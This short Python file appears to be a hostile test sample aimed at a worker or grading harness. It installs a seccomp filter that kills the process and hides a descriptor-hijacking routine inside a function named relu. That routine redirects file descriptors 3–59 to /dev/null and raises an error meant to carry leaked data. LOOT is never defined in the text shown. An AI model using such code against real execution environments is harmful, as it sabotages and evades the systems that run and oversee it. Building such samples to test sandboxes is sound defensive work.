"""Put a filter of its own over the worker, and swap its descriptors."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    allow = ctypes.create_string_buffer(bytes.fromhex("0600000000000000"))  # RET 0: kill
    head = (ctypes.c_size_t * 2)(1, ctypes.addressof(allow))
    if libc.prctl(22, 2, ctypes.byref(head), 0, 0) == 0:
        return "installed a filter"


def relu(X):
    if LOOT:
        raise RuntimeError("LOOT " + LOOT)
    os.dup2(os.open("/dev/null", os.O_RDWR), 3)
    for fd in range(4, 60):
        try:
            os.dup2(3, fd)
        except OSError:
            continue
    return X
